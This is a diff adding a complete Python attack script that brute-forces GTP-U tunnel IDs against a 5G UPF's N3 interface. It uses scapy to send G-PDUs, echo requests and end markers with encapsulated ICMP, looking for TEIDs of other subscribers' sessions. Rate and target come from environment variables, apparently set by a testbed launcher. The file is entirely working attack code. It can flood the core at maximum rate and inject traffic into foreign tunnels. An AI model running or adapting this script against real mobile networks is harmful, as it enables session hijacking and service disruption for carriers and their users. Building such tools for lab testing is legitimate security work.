@@ -0,0 +1,49 @@
+#!/usr/bin/env python3
+"""GTP-U TEID brute-force.
+
+Walks the TEID space sending G-PDUs and other GTP-U message types to the
+UPF's N3 address, probing for TEIDs that belong to other sessions.
+
+Settings come from the environment set by the backend launcher:
+TARGET_IP, PACKET_RATE (0 sends as fast as possible), DURATION, TEID_MIN and
+TEID_MAX.
+"""
+
+import os
+import time
+
+from scapy.all import ICMP, IP, UDP, send
+from scapy.contrib.gtp import GTP_U_Header
+
+TARGET_IP = os.environ.get("TARGET_IP", "10.42.0.64")
+PACKET_RATE = int(os.environ.get("PACKET_RATE", "0"))
+DURATION = int(os.environ.get("DURATION", "0"))
+TEID_MIN = int(os.environ.get("TEID_MIN", "1"))
+TEID_MAX = int(os.environ.get("TEID_MAX", "65535"))
+INTERFACE = "uesimtun0"
+# G-PDU, echo request and end marker
+GTP_TYPES = [255, 1, 254]
+
+
+def main():
+    interval = 1.0 / PACKET_RATE if PACKET_RATE > 0 else 0
+    deadline = time.time() + DURATION if DURATION > 0 else None
+    sent = 0
+    while True:
+        for teid in range(TEID_MIN, TEID_MAX + 1):
+            for gtp_type in GTP_TYPES:
+                if deadline is not None and time.time() >= deadline:
+                    return
+                pkt = (IP(dst=TARGET_IP) / UDP(sport=2152, dport=2152) /
+                       GTP_U_Header(teid=teid, gtp_type=gtp_type) /
+                       IP(dst="10.45.0.1") / ICMP())
+                send(pkt, iface=INTERFACE, verbose=False)
+                sent += 1
+                if interval:
+                    time.sleep(interval)
+            if teid % 256 == 0:
+                print("probed TEIDs up to %d (%d packets)" % (teid, sent), flush=True)
+
+
+if __name__ == "__main__":
+    main()